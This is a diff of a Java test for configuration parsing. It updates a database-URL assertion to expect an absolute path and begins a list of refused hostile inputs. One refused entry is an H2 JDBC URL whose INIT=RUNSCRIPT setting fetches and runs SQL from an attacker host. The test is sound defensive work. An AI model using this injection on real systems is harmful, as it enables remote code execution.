@@ -164,7 +164,9 @@ class ConfigHostileInputTest {
                         database: {url: "jdbc:h2:file:./data/x;CACHE_SIZE=8192;LOCK_TIMEOUT=5000;DB_CLOSE_DELAY=-1"}
                         bots: [{name: a, coze: {bot_id: '1'}}]
                         """).database().url())
-                .isEqualTo("jdbc:h2:file:./data/x;CACHE_SIZE=8192;LOCK_TIMEOUT=5000;DB_CLOSE_DELAY=-1");
+                // the settings kept as written; the relative path made absolute in the config file's folder
+                .isEqualTo("jdbc:h2:file:" + Path.of("data/x").toAbsolutePath()
+                        + ";CACHE_SIZE=8192;LOCK_TIMEOUT=5000;DB_CLOSE_DELAY=-1");
         Map<String, String> refused = Map.of(
                 "jdbc:h2:file:./x;INIT=RUNSCRIPT FROM 'http://attacker.example/x.sql'",
                         "the H2 setting INIT is not allowed; the bridge takes only CACHE_SIZE, DB_CLOSE_DELAY, "
